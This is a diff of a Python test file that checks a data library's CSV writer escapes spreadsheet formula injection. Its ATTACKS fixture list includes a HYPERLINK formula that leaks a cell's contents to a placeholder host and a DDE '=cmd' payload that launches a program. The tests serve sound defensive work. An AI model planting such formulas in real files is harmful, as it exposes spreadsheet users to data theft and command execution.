@@ -6,67 +6,45 @@ import csv
 from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from deal_core.config import DataConfig
 from deal_core.data.answer_files import survey_rows
-from deal_core.data.dataset import Landing, validate_file
 from deal_core.data.reading.csv_records import GUARD_COLUMN, guarded, unguarded
 from deal_core.data.reading.readers import read_rows
-from deal_core.data.schema import TaskSchema
-from deal_core.data.source_files import files_at
 from tasks.monitoring.select import _write_new
+from tests.built import check
 from tests.hypothesis_settings import SHARED_FIXTURES
 
-ATTACKS = (
-    "=1+1",
-    '=HYPERLINK("http://x.example/?a="&A1,"open")',
-    "=cmd|' /C calc'!A0",
-    "+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "＝1+1",
-    "- a list",
-    "'=1",
-    "''=1",
-    "'-",
-)
-HARMLESS = ("", "text", "'quoted'", "'tis", "''", " =1", "a=1", '"=1"', "1-1", "don't")
+ATTACKS = [
+    *("=1+1", '=HYPERLINK("http://x.example/?a="&A1,"open")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)"),
+    *("\t=1", "\r=1", "\n=1", "＝1+1", "- a list", "'=1", "''=1", "'-"),
+]
+HARMLESS = ["", "text", "'quoted'", "'tis", "''", " =1", "a=1", '"=1"', "1-1", "don't"]
 CHARACTERS = st.text(st.sampled_from("'=+-@\t\r\n\"',; aé＝\u00a0"), max_size=8)
-
-
-def begins_a_formula(cell: str) -> bool:
-    return cell[:1] in set("=+-@\t\r\n＝＋－＠")
-
-
-def write_and_read(path: Path, texts: list[str]) -> list[str]:
-    path.unlink(missing_ok=True)
-    _write_new(path, [{"id": "", "text": text, "label": "", "is_random": True} for text in texts])
-    with path.open(encoding="utf-8-sig", newline="") as stream:
-        assert not any(begins_a_formula(cell) for record in csv.reader(stream) for cell in record)
-    return [row.values["text"] for row in read_rows(path)]
 
 
 @settings(SHARED_FIXTURES, max_examples=30)
 @given(st.lists(CHARACTERS | st.text(st.characters(exclude_categories=["Cs"]), max_size=5), min_size=1, max_size=6))
+@example(ATTACKS)
+@example(HARMLESS)
+@example([*ATTACKS, *HARMLESS])
 def test_every_text_comes_back_as_it_was_and_none_is_a_formula(tmp_path: Path, texts: list[str]) -> None:
-    assert write_and_read(tmp_path / "to-label.csv", texts) == texts
+    path = tmp_path / "to-label.csv"
+    path.unlink(missing_ok=True)
+    _write_new(path, [{"id": "", "text": text, "label": "", "is_random": True} for text in texts])
+    with path.open(encoding="utf-8-sig", newline="") as stream:
+        assert not any(cell[:1] in {*"=+-@\t\r\n＝＋－＠"} for record in csv.reader(stream) for cell in record)
+    assert [row.values["text"] for row in read_rows(path)] == texts
 
 
-def test_attacks_come_back_as_they_were(tmp_path: Path) -> None:
-    for texts in ([*ATTACKS], [*HARMLESS], [*ATTACKS, *HARMLESS]):
-        assert write_and_read(tmp_path / "to-label.csv", texts) == texts
-
-
-def test_only_what_a_spreadsheet_runs_is_changed_and_a_file_without_it_has_no_mark() -> None:
+def test_only_what_a_spreadsheet_runs_is_changed_and_a_file_without_it_has_no_mark(tmp_path: Path) -> None:
     assert guarded([{"text": text} for text in HARMLESS]) == [{"text": text} for text in HARMLESS]
     marked = guarded([{"text": text, "label": ""} for text in (*ATTACKS, "text")])
     assert [row["text"] for row in marked] == [*(f"'{text}" for text in ATTACKS), "text"]
     assert [row[GUARD_COLUMN] for row in marked] == [*["true"] * len(ATTACKS), "false"]
+    (tmp_path / "ordinary.csv").write_text("text,label\n'=1,a\n'- b,b\n")
+    assert [row.values["text"] for row in read_rows(tmp_path / "ordinary.csv")] == ["'=1", "'- b"]
 
 
 @pytest.mark.parametrize("mark", ["true", "TRUE", " True "])
@@ -75,26 +53,16 @@ def test_a_spreadsheet_may_write_the_mark_anew_and_drop_an_apostrophe(mark: str)
     assert unguarded({"text": "=1", GUARD_COLUMN: mark}) == {"text": "=1"}
 
 
-@pytest.mark.parametrize("mark", ["false", "", "no", None])
-def test_an_apostrophe_of_any_other_row_stays(mark: str | None) -> None:
-    row = {"text": "'=1", "other": "'-"}
-    assert unguarded({**row, GUARD_COLUMN: mark} if mark is not None else row) == row
+@pytest.mark.parametrize("mark", [{GUARD_COLUMN: "false"}, {GUARD_COLUMN: ""}, {GUARD_COLUMN: "no"}, {}])
+def test_an_apostrophe_of_any_other_row_stays(mark: dict[str, str]) -> None:
+    assert unguarded({"text": "'=1", "other": "'-", **mark}) == {"text": "'=1", "other": "'-"}
 
 
-def test_ordinary_files_keep_their_apostrophes(tmp_path: Path) -> None:
-    path = tmp_path / "ordinary.csv"
-    path.write_text("text,label\n'=1,a\n'- b,b\n")
-    assert [row.values["text"] for row in read_rows(path)] == ["'=1", "'- b"]
-
-
-def test_a_labelled_file_is_learned_with_its_own_texts_and_the_mark_is_no_column(tmp_path: Path) -> None:
-    texts = [f"{'=-+@'[number % 4]}{number} off" for number in range(60)]
-    path = tmp_path / "labelled.csv"
+def test_a_labelled_file_is_learned_and_the_mark_is_no_column(tmp_path: Path) -> None:
+    path, texts = tmp_path / "labelled.csv", [f"{'=-+@'[number % 4]}{number} off" for number in range(60)]
     _write_new(path, [{"id": "", "text": text, "label": "ab"[number % 2]} for number, text in enumerate(texts)])
     kept: list[str] = []
-    task = TaskSchema(name="t", format="auto", metric="auto")
-    landing = Landing(sources=files_at(path), task=task, config=DataConfig())
-    manifest = validate_file(landing, lambda rows: kept.extend(rows.column("input").to_pylist())).manifest
-    assert (manifest.num_rejected, manifest.task.format) == (0, "labelled")
-    assert manifest.num_train > 30 and {*kept} <= {*texts}
+    found = check(path, on_rows=lambda rows: kept.extend(rows.column("input").to_pylist())).manifest
+    assert (found.num_rejected, found.task.format) == (0, "labelled")
+    assert found.num_train == len(kept) > 25 and {*kept} <= {*texts}
     assert [*survey_rows(path).types] == ["id", "text", "label"], "files of answers do not repeat it"
